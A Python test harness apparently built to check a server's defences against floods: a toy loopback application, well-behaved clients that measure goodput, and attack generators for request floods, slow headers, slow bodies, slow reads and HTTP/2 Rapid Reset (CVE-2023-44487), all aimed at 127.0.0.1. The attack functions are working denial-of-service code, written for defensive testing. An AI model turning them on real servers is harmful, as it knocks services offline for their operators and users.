"""Floods from many loopback addresses, clients who behave, and an application that has only so much to give.

Each part is a process of its own, so that none waits for another one's interpreter:

    python -m harness.flood application 20 4      a server: 20 ms for a request, 4 at a time; it says its port
    python -m harness.flood good PORT SECONDS     20 clients with 2 requests a second each; says how many were answered
    python -m harness.flood KIND PORT SECONDS     an attack: requests, slow-heads, slow-bodies, slow-reads, resets;
                                                  says how many whole requests it made, and how many were answered
"""

from __future__ import annotations

import asyncio
import json
import os
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

HOST = "shop"
GOOD = [f"127.2.{number}.7" for number in range(20)]
BAD = [f"127.1.{number}.7" for number in range(200)]
#: How long a client that behaves waits for an answer, in seconds.
PATIENCE = 3.0
RATE = 2.0
BODY = b"x" * 1000


def request(path: str = "/", agent: str = "Mozilla/5.0", more: bytes = b"") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {agent}\r\n".encode() + more + b"\r\n"


def length(head: bytes) -> int:
    return int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0] or 0)


# The application


async def application(milliseconds: float, workers: int) -> None:
    room = asyncio.Semaphore(workers)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                await reader.readexactly(length(head))
                big = head.startswith(b"GET /big")
                async with room:
                    await asyncio.sleep(milliseconds / 1000)
                body = BODY * (2000 if big else 1)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1000)
    print(server.sockets[0].getsockname()[1], flush=True)
    await server.serve_forever()


# Those who behave


async def ask(port: int, address: str, data: bytes) -> int:
    """Asks once, on a connection of its own, and returns the status; 0: there was none."""
    writer = None
    try:
        async with asyncio.timeout(PATIENCE):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
            writer.write(data)
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(length(head))
            return int(head.split(b" ")[1])
    except (OSError, TimeoutError, ValueError, IndexError, asyncio.IncompleteReadError):
        return 0
    finally:
        if writer:
            writer.close()


async def good(port: int, seconds: float) -> None:
    """Says how many requests were made, and what became of them."""
    begin = time.monotonic()
    results: dict[int, int] = {}
    waits: list[float] = []

    async def one(address: str, at: float) -> None:
        await asyncio.sleep(max(0, begin + at - time.monotonic()))
        since = time.monotonic()
        status = await ask(port, address, request("/products"))
        results[status] = results.get(status, 0) + 1
        if status == 200:
            waits.append(time.monotonic() - since)

    tasks = [
        asyncio.create_task(one(address, turn / RATE + index / len(GOOD) / RATE))
        for index, address in enumerate(GOOD)
        for turn in range(int(seconds * RATE))
    ]
    await asyncio.gather(*tasks)
    waits.sort()
    median = waits[len(waits) // 2] if waits else None
    print(json.dumps({"asked": len(tasks), "answered": results.get(200, 0), "results": results, "median": median}))


# Attacks

#: Of all attackers together.
told = {"asked": 0, "answered": 0}


async def forever(addresses: list[str], seconds: float, once: Callable[[str], Coroutine[Any, Any, None]]) -> None:
    """Does something from each address, again and again."""
    end = time.monotonic() + seconds

    async def loop(address: str, at: float) -> None:
        await asyncio.sleep(at)
        while time.monotonic() < end:
            try:
                async with asyncio.timeout(max(0.01, end - time.monotonic())):
                    await once(address)
            except (OSError, TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
                await asyncio.sleep(0.05)

    await asyncio.gather(*(loop(address, index / len(addresses)) for index, address in enumerate(addresses)))


async def requests(port: int, address: str) -> None:
    """Ten requests a second on a connection that is kept as long as the other side keeps it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        while True:
            writer.write(request("/search", "bot/1.0"))
            told["asked"] += 1
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(length(head))
            told["answered"] += head.startswith(b"HTTP/1.1 200")
            await asyncio.sleep(0.1)
    finally:
        writer.close()


async def slow_heads(port: int, address: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        writer.write(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode())
        for number in range(1000):
            writer.write(f"X-{number}: 1\r\n".encode())
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(1)
    finally:
        writer.close()


async def slow_bodies(port: int, address: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        writer.write(f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode())
        for _ in range(1000):
            writer.write(b"x")
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(1)
    finally:
        writer.close()


async def slow_reads(port: int, address: str) -> None:
    """Wants much, and takes hardly anything of it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0), limit=1024)
    try:
        writer.write(request("/big", "bot/1.0"))
        while await reader.read(64):
            await asyncio.sleep(1)
    finally:
        writer.close()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def resets(port: int, address: str) -> None:
    """Opens streams and resets each at once (CVE-2023-44487)."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", port, local_addr=(address, 0), ssl=context, server_hostname=HOST
    )
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))
        # :method GET, :scheme https, :path /, :authority
        head = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST.encode()
        for turn in range(1000):
            streams = range(1 + 40 * turn, 41 + 40 * turn, 2)
            writer.write(b"".join(frame(1, 5, s, head) + frame(3, 0, s, b"\0\0\0\x08") for s in streams))
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(0.02)
    finally:
        writer.close()


KINDS = {
    "requests": requests, "slow-heads": slow_heads, "slow-bodies": slow_bodies, "slow-reads": slow_reads,
    "resets": resets,
}  # fmt: skip


# From tests


def start(*arguments: object) -> subprocess.Popen[str]:
    """One of these programs."""
    return subprocess.Popen(
        ["setpriv", "--pdeathsig", "KILL", sys.executable, "-m", "harness.flood", *map(str, arguments)],
        stdout=subprocess.PIPE, text=True, cwd=Path(__file__).parents[1], env=os.environ,
    )  # fmt: skip


def goodput(port: int, seconds: float) -> dict[str, Any]:
    """What those who behave get within some time."""
    with start("good", port, seconds) as process:
        assert process.stdout
        return dict(json.loads(process.stdout.read()))


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["application", milliseconds, workers]:
            asyncio.run(application(float(milliseconds), int(workers)))
        case ["good", port, seconds]:
            asyncio.run(good(int(port), float(seconds)))
        case [kind, port, seconds]:
            attack = KINDS[kind]
            asyncio.run(forever(BAD, float(seconds), lambda address: attack(int(port), address)))
            print(json.dumps(told))
